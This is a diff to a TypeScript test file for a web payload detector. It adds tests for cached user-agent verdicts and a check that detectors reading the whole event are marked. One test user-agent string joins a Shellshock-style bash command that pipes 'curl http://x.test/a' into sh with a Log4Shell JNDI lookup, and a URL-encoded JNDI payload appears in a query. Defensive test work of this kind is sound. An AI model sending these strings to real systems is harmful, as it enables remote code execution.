@@ -1,7 +1,7 @@
 // Each attack class through the encodings attackers use, and hard benign text that must stay quiet.
 import { describe, expect, it } from "vitest";
 import { normalizeEvent } from "@/lib/ingest/normalize.ts";
-import { detectPayloads } from "./index.ts";
+import { detectPayloads, PAYLOAD_DETECTORS } from "./index.ts";
 
 const query = (value: string) => normalizeEvent({ url: { original: `/p?x=${value}` }, http: { request: { method: "GET" } } });
 const body = (content: string) => normalizeEvent({ url: { original: "/submit" }, http: { request: { method: "POST", body: { content } } } });
@@ -55,5 +55,27 @@ describe("payload detectors", () => {
     const event = body(JSON.stringify({ note: "select name from customers" }));
     expect(detectPayloads(event, { paranoia: 1 })).toEqual([]);
     expect(detectPayloads(event, { paranoia: 2 }).map((d) => d.id)).toContain("sn-sqli-keywords");
+  });
+
+  it("gives the same verdicts on a user agent seen before, at each level, whatever else the event holds", () => {
+    const agent = "Mozilla/5.0 () { :; }; /bin/bash -c 'curl http://x.test/a | sh' ${jndi:ldap://x.test/a}";
+    const event = (path: string) => normalizeEvent({ url: { original: path }, user_agent: { original: agent } });
+    for (const paranoia of [1, 2, 3] as const) {
+      const first = detectPayloads(event("/"), { paranoia });
+      expect(first.map((d) => d.category)).toEqual(expect.arrayContaining(["command_injection", "java_injection"]));
+      expect(detectPayloads(event("/"), { paranoia })).toEqual(first);
+      // A detector already fired by the URL reports the URL; the agent's cached verdicts fill in the rest.
+      const both = detectPayloads(event("/a?x=%24%7Bjndi%3Aldap%3A%2F%2Fy.test%2Fb%7D"), { paranoia });
+      expect(both.find((d) => d.category === "java_injection")?.field).toBe("url.original");
+      expect(both.map((d) => d.category)).toContain("command_injection");
+    }
+  });
+
+  // Verdicts on a user agent are reused across events (index.ts): a detector that reads the rest
+  // of the event must say so, or it would be answered from another event's verdict.
+  it("marks every detector that reads the event", () => {
+    const unmarked = PAYLOAD_DETECTORS.filter((d) => d.match.length >= 3 && !d.readsEvent).map((d) => d.id);
+    expect(unmarked).toEqual([]);
+    expect(PAYLOAD_DETECTORS.filter((d) => d.readsEvent).length).toBeGreaterThan(0);
   });
 });
